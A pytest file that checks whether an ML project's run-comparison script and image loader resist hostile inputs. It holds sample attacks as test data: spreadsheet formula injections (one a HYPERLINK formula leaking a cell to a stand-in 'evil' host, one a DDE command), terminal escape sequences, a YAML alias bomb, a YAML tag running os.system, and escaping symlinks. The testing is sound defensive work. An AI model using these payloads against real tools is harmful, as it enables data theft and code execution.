"""Tools that read others' folders: compare_runs.py prints no control sequences, writes no spreadsheet formulas
and refuses YAML aliases and oversized files; imagefolder stays inside its folder and names a bad image."""

import csv
import os
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml
from PIL import Image

from src.data.imagefolder import ImageFolderDataModule
from src.errors import DataError
from src.machinery.config.plain_yaml import PlainYamlError, read_plain_yaml
from tests.conftest import ROOT, run_script

sys.path.insert(0, str(ROOT / "scripts"))
import compare_runs

ESCAPE = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\x08\x9b\u202e"


def run_folder(root: Path, name: str, config: dict, metrics: str = "epoch,step,val/acc\n0,10,0.5\n") -> Path:
    folder = root / name
    (folder / "csv").mkdir(parents=True)
    (folder / "config.yaml").write_text(yaml.safe_dump(config))
    (folder / "csv" / "metrics.csv").write_text(metrics)
    return folder


def test_printed_table_and_csv_are_free_of_escapes_and_formulas(tmp_path, capsys):
    formulas = ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)", "\tx", "\rx"]
    for i, value in enumerate(formulas):
        run_folder(tmp_path, f"run{i}", {"note": value, "title": f"t{ESCAPE}{i}", "lr": -0.5 * i})
    run_folder(tmp_path, f"bad{ESCAPE}name", {"note": "plain", "title": "t", "lr": 1.0})
    out_csv = tmp_path / "table.csv"
    compare_runs.main([str(tmp_path), "--csv", str(out_csv), "--keys", "note", "title", "lr"])
    printed = capsys.readouterr().out
    assert not [c for c in printed if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F or c == "\u202e"]
    rows = list(csv.reader(out_csv.open()))
    note, lr = rows[0].index("note"), rows[0].index("lr")
    notes = {row[note] for row in rows[1:]}
    assert {"'" + printable for printable in ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0"]} <= notes
    assert "'-2+3+cmd|x" in notes and "'@SUM(1+1)" in notes and "plain" in notes
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert "-1.0" in {row[lr] for row in rows[1:]}  # a negative number stays a number
    assert "\x1b" not in out_csv.read_text()


@pytest.mark.parametrize("kind", ["aliases", "oversized", "python_tag", "not_a_mapping", "bad_metrics"])
def test_hostile_run_files_are_refused_in_one_line(tmp_path, kind):
    folder = run_folder(tmp_path, "run", {"a": 1})
    config = folder / "config.yaml"
    if kind == "aliases":  # a billion laughs: nine levels of nine references
        lines = ["l0: &l0 [lol]"] + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
        config.write_text("\n".join(lines) + "\n")
    elif kind == "oversized":
        config.write_text("a: " + "x" * (17 << 20) + "\n")
    elif kind == "python_tag":
        config.write_text("a: !!python/object/apply:os.system ['touch marker']\n")
    elif kind == "not_a_mapping":
        config.write_text("- a\n- b\n")
    else:
        (folder / "csv" / "metrics.csv").write_text("epoch,step,val/acc\n0,1,not-a-number\n")
    done = run_script("scripts/compare_runs.py", str(tmp_path), cwd=tmp_path, timeout=60)
    assert done.returncode == 1
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: ") and str(folder) in lines[0] and "refused" in lines[0]
    assert "Traceback" not in done.stderr and not (tmp_path / "marker").exists()


def image_tree(root: Path, classes=("a", "b"), per_class: int = 2) -> None:
    rng = np.random.default_rng(0)
    for c in classes:
        (root / "train" / c).mkdir(parents=True)
        for i in range(per_class):
            Image.fromarray(rng.integers(0, 256, (8, 8, 3), dtype=np.uint8)).save(root / "train" / c / f"{i}.png")


def datamodule(root: Path) -> ImageFolderDataModule:
    return ImageFolderDataModule(data_dir=str(root), num_classes=2, in_channels=3, image_size=8, num_workers=0)


def test_imagefolder_does_not_hang_on_link_loops_and_reads_no_duplicates(tmp_path):
    data = tmp_path / "data"
    image_tree(data)
    (data / "train" / "a" / "again").symlink_to(".")  # two links to "." made torchvision's walk endless
    (data / "train" / "a" / "twice").symlink_to(".")
    (data / "train" / "b" / "up").symlink_to("..")
    dm = datamodule(data)
    dm.setup()
    assert len(dm.datasets["train"]) + len(dm.datasets["val"]) == 4


@pytest.mark.parametrize("link", ["file_out", "dir_out", "class_out", "class_is_split"])
def test_imagefolder_refuses_links_that_lead_out_of_its_folder(tmp_path, link):
    data, outside = tmp_path / "data", tmp_path / "outside"
    image_tree(data)
    image_tree(outside)
    target = {"file_out": outside / "train" / "a" / "0.png", "dir_out": outside / "train" / "a",
              "class_out": outside / "train" / "b", "class_is_split": data / "train"}[link]  # fmt: skip
    where = {"file_out": data / "train" / "a" / "x.png", "dir_out": data / "train" / "a" / "more",
             "class_out": data / "train" / "c", "class_is_split": data / "train" / "c"}[link]  # fmt: skip
    where.symlink_to(target)
    dm = ImageFolderDataModule(data_dir=str(data), num_classes=3, in_channels=3, image_size=8, num_workers=0)
    with pytest.raises(DataError) as error:
        dm.setup()
    message = str(error.value)
    assert str(where) in message and "\n" not in message


def test_an_oversized_or_damaged_image_is_one_line_naming_the_file(tmp_path, monkeypatch):
    data = tmp_path / "data"
    image_tree(data)
    big = data / "train" / "a" / "big.png"
    Image.new("RGB", (64, 64)).save(big)
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # 64 x 64 = 4096 pixels: over the limit
    with pytest.raises(DataError, match=r"big\.png is too large to decode") as error:
        datamodule(data).setup()
    assert "\n" not in str(error.value) and "MAX_IMAGE_PIXELS" in str(error.value)
    monkeypatch.undo()
    big.unlink()
    damaged = data / "train" / "b" / "0.png"
    damaged.write_bytes(damaged.read_bytes()[:60])  # the header survives, the pixels do not
    dm = datamodule(data)
    dm.setup()
    with pytest.raises(DataError, match=r"0\.png is not a readable image"):
        for loader in (dm.train_dataloader(), dm.val_dataloader()):
            list(loader)


@pytest.mark.slow
def test_a_fifo_in_a_resumed_run_folder_is_refused_before_hydra_opens_its_log(tmp_path):
    folder = tmp_path / "run"
    folder.mkdir()
    os.mkfifo(folder / "train.log")  # Hydra's log handler would block opening it for writing
    done = run_script("train.py", f"hydra.run.dir={folder}", "resume=true", cwd=tmp_path, timeout=120)
    assert done.returncode == 1, done.stderr[-2000:]
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error:") and "train.log (a FIFO)" in last and str(folder) in last


@pytest.mark.slow
def test_compare_runs_skips_a_fifo_config_with_one_warning_naming_it(tmp_path):
    run_folder(tmp_path, "good", {"lr": 0.1})
    fifo = tmp_path / "piped" / "config.yaml"
    fifo.parent.mkdir()
    os.mkfifo(fifo)
    done = run_script("scripts/compare_runs.py", str(tmp_path), cwd=tmp_path, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    warnings = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(warnings) == 1 and warnings[0].startswith("Warning:") and str(fifo) in warnings[0]
    assert "good" in done.stdout and "piped" not in done.stdout


def test_read_plain_yaml_refuses_a_fifo_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "config.yaml")
    with pytest.raises(PlainYamlError, match="not a regular file"):
        read_plain_yaml(tmp_path / "config.yaml")
